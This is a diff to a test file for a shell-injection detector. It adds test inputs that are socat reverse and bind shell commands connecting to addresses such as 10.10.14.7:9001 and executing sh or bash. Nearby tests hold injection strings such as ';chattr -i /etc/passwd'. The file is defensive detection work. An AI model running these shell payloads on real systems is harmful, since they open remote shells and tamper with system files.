@@ -82,6 +82,11 @@ describe("shell analyzer", () => {
     for (const v of ["=SUM(A1:A3)", "name,email,total", "Hey!! is it 'x'|'y' !", "a|'b'!"]) expect([v, s(v)]).toEqual([v, 0]);
   });
 
+  test("socat joining a network address to a program is a reverse or bind shell", () => {
+    for (const v of [";socat tcp-connect:10.10.14.7:9001 exec:sh,pty,stderr,setsid", "socat TCP:10.0.0.1:4242 EXEC:'bash -li',pty", "x|socat TCP-LISTEN:4444,fork SYSTEM:id"]) expect([v, strongest(shellAnalyzer, v)?.rule, s(v)]).toEqual([v, "shell.socat-shell", 0.9]);
+    expect(strongest(shellAnalyzer, "I use socat for port forwarding: TCP-LISTEN:80")?.rule).not.toBe("shell.socat-shell");
+  });
+
   test("system tools that are no English word, after a separator", () => {
     for (const v of [";rmt --version", ";flock -u / whoami", "x;ldd /bin/sh", "1|lsmod", ";chattr -i /etc/passwd", "a&&tcpdump -i eth0"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
   });
